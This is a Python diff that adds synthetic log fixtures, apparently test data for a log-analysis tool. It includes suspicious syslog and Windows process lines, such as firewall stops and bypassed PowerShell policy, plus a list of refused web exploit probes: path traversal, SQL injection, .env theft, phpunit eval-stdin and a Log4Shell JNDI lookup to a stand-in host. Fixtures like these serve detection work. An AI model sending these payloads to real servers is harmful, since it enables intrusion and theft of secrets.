@@ -85,6 +85,18 @@ def syslog_day(number: int) -> bytes:
         "dockerd[901]: time=\"2026-11-09\" level=info msg=\"Container health status changed\"",
         "postfix/smtpd[771]: connect from mail.example.org[192.0.2.25]",
         "kernel: usb 1-1: new high-speed USB device number 4 using xhci_hcd",
+        'rsyslogd: [origin software="rsyslogd"] exiting on signal 15.',
+        "kernel: device docker0 entered promiscuous mode",
+        "kernel: nvidia: loading out-of-tree module taints kernel.",
+        "kernel: nvidia: module verification failed: signature and/or required key missing - tainting kernel",
+        "CRON[711]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
+        "CRON[712]: (root) CMD (curl -fsS https://hc-ping.example.com/abc >/dev/null)",
+        "useradd[713]: new user: name=sshd, UID=110, GID=65534, home=/run/sshd, shell=/usr/sbin/nologin",
+        "usermod[714]: add 'jenkins' to group 'docker'",
+        "su[715]: pam_unix(su-l:session): session opened for user postgres(uid=111) by root(uid=0)",
+        "sudo[716]: jo : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/systemctl stop firewalld",
+        "sudo[717]: jo : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/wget https://downloads.example.org/a.deb",
+        "kernel: [UFW BLOCK] IN=eth0 SRC=203.0.113.9 DST=192.0.2.1 PROTO=TCP DPT=23",
     )
     times = sorted(_at(random, 0, (0, 23)) for _ in range(200))
     return "".join(
@@ -126,6 +138,14 @@ _PROCESSES = (
     ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\wuauclt.exe", "wuauclt.exe /RunHandlerComServer"),
     ("C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\Users\\jo\\notes.txt"),
     ("C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c ipconfig"),
+    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\curl.exe", "curl.exe -O https://downloads.example.org/a.zip"),
+    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\certutil.exe", "certutil -hashfile a.iso SHA256"),
+    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\msiexec.exe", "msiexec.exe /i C:\\temp\\agent.msi /qn"),
+    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\schtasks.exe", "schtasks /query /fo csv"),
+    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\vssadmin.exe", "vssadmin list shadows"),
+    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\reg.exe", "reg query HKLM\\Software\\Microsoft"),
+    ("C:\\Windows\\CCM\\CcmExec.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+     "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1"),
 )
 
 
@@ -142,6 +162,7 @@ def windows_day(number: int) -> bytes:
             facts = {"SubjectUserName": user, "NewProcessName": image, "ParentProcessName": parent, "CommandLine": line}
             events.append((at + timedelta(minutes=2), 4688, facts))
         events.append((at + timedelta(minutes=30), 4634, {"TargetUserName": user, "LogonType": "7", "TargetLogonId": f"0x{hour:x}11"}))
+    events.append((_BEGAN.replace(hour=11), 4732, {"SubjectUserName": "helpdesk", "TargetUserName": "Remote Desktop Users"}))
     events.append((_BEGAN.replace(hour=8), 4625, {"TargetUserName": user, "LogonType": "2", "IpAddress": "127.0.0.1", "SubStatus": "0xc000006a"}))
     return ("<Events>" + "".join(_event(number, *event) for event in sorted(events, key=lambda one: one[0])) + "</Events>").encode()
 
@@ -154,6 +175,22 @@ def _event(number: int, at: datetime, code: int, facts: dict[str, str]) -> str:
         f"<EventID>{code}</EventID><TimeCreated SystemTime='{at:%Y-%m-%dT%H:%M:%SZ}'/><Channel>Security</Channel>"
         f"<Computer>WS-{number}.corp.example</Computer></System><EventData>{data}</EventData></Event>"
     )
+
+
+def exposed_web_day(number: int) -> bytes:
+    """The same server on the Internet: besides visitors, exploit attempts that it refuses."""
+    random, rows = Random(f"exposed {number}"), []
+    for step in range(80):
+        at, source = _BEGAN + timedelta(minutes=7 * step), f"198.51.100.{random.randrange(2, 60)}"
+        path, status = random.choice(_ATTEMPTS), random.choice((400, 403, 404))
+        rows.append(f'{source} - - [{at:%d/%b/%Y:%H:%M:%S} +0000] "GET {path} HTTP/1.1" {status} 153 "-" "zgrab/0.x"\n')
+    return web_day(number) + "".join(rows).encode()
+
+
+_ATTEMPTS = (
+    "/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/", "/../../etc/passwd", "/?id=1%27%20OR%201=1--", "/shell.php",
+    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/?x=${jndi:ldap://203.0.113.9/a}", "/cgi-bin/luci",
+)  # fmt: skip
 
 
 def cloudtrail_day(number: int) -> bytes:
